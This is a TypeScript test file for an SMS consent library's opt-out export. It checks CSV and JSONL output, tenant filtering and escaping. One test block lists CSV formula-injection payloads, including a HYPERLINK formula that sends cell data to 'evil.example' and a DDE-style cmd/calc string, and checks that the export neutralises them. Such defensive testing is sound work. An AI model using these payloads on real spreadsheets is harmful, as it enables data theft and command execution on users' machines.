import { parse } from 'csv-parse/sync';
import { createConsentManager, createMemoryStore } from 'sms-consent';
import { createFixedClock } from 'sms-consent/testing';
import { describe, expect, test } from 'vitest';

async function collect(lines: AsyncIterable<string>): Promise<string> {
  let text = '';
  for await (const line of lines) text += line;
  return text;
}

async function seeded() {
  const clock = createFixedClock('2026-03-02T14:03:22Z');
  const consent = createConsentManager({ store: createMemoryStore(), clock, defaultCountry: 'US' });
  await consent.handleInbound({ from: '+14155552671', to: '+18005550100', body: 'STOP', messageId: 'SM1' });
  clock.advance(1000);
  await consent.record({
    phone: '+14155550123',
    action: 'opt_out',
    source: 'import',
    evidence: { messageId: 'SM2', body: 'Stop, "please", I mean it,\r\nno more' },
  });
  await consent.handleInbound({ from: '+16175550100', body: 'START', messageId: 'SM3' });
  await consent.record({
    phone: '+12125550100',
    action: 'opt_out',
    source: 'delivery_error',
    evidence: { errorCode: 21610 },
  });
  await consent.handleInbound({ from: '+13125550100', body: 'STOP', messageId: 'SM4', tenantId: 'other' });
  return consent;
}

describe('exportOptOuts', () => {
  test('CSV has a header and one RFC 4180 row per opted-out number of the tenant', async () => {
    const consent = await seeded();
    const text = await collect(consent.exportOptOuts({ format: 'csv', pageSize: 1 }));
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows.map((row) => row.phone)).toEqual(['+12125550100', '+14155550123', '+14155552671']);
    expect(rows[1]).toMatchObject({
      opted_out_at: '2026-03-02T14:03:23.000Z',
      source: 'import',
      message_id: 'SM2',
      body: 'Stop, "please", I mean it,\r\nno more',
    });
    expect(rows[2]).toMatchObject({
      keyword: 'STOP',
      message_id: 'SM1',
      body: 'STOP',
      opted_out_at: '2026-03-02T14:03:22.000Z',
    });
    expect(rows[0]).toMatchObject({ source: 'delivery_error', body: '' });
    expect(text.startsWith('phone,opted_out_at,source,keyword,message_id,body,event_id\r\n')).toBe(true);
  });

  test('JSONL has one object per line', async () => {
    const consent = await seeded();
    const lines = (await collect(consent.exportOptOuts({ format: 'jsonl', tenantId: 'other' })))
      .trimEnd()
      .split('\n');
    expect(lines.map((line) => JSON.parse(line).phone)).toEqual(['+13125550100']);
  });

  test('an empty tenant exports only the CSV header', async () => {
    const consent = await seeded();
    expect(await collect(consent.exportOptOuts({ format: 'csv', tenantId: 'nobody' }))).toBe(
      'phone,opted_out_at,source,keyword,message_id,body,event_id\r\n',
    );
  });
});

describe('exportOptOuts CSV against hostile bodies', () => {
  const hostile = [
    'Stop texting me\nThis is John',
    'stop\rnow',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1+1)',
    '\tSTOP',
    '\rSTOP',
    '＝1+1',
  ];

  async function exported(options: { raw?: boolean } = {}) {
    const clock = createFixedClock('2026-03-02T14:03:22Z');
    const consent = createConsentManager({ store: createMemoryStore(), clock, defaultCountry: 'US' });
    for (const [index, body] of hostile.entries()) {
      await consent.record({
        phone: `+1415555${String(1000 + index)}`,
        action: 'opt_out',
        source: 'import',
        evidence: { messageId: `SM${index}`, body },
      });
    }
    const text = await collect(
      consent.exportOptOuts({ format: 'csv', ...(options.raw ? { formulas: 'raw' as const } : {}) }),
    );
    // Read back the way spreadsheets and Python's csv module do: CR, LF and CRLF all end a record.
    return parse(text, { columns: true, record_delimiter: ['\r\n', '\n', '\r'] }) as Record<string, string>[];
  }

  test('a body with a bare line feed or carriage return stays one row when read back by a CSV parser', async () => {
    const rows = await exported({ raw: true });
    expect(rows).toHaveLength(hostile.length);
    expect(rows.map((row) => row.body)).toEqual(hostile);
    expect(rows.map((row) => row.phone)).toEqual(hostile.map((_, index) => `+1415555${1000 + index}`));
  });

  test('formula prefixes are neutralised with a leading quote by default, the phone kept as is', async () => {
    const rows = await exported();
    expect(rows).toHaveLength(hostile.length);
    expect(rows[0]?.body).toBe('Stop texting me\nThis is John');
    expect(rows[1]?.body).toBe('stop\rnow');
    for (const row of rows.slice(2)) {
      expect(row.body?.startsWith("'")).toBe(true);
      expect(row.phone).toMatch(/^\+1415555\d{4}$/);
    }
    expect(rows.slice(2).map((row) => row.body?.slice(1))).toEqual(hostile.slice(2));
  });
});
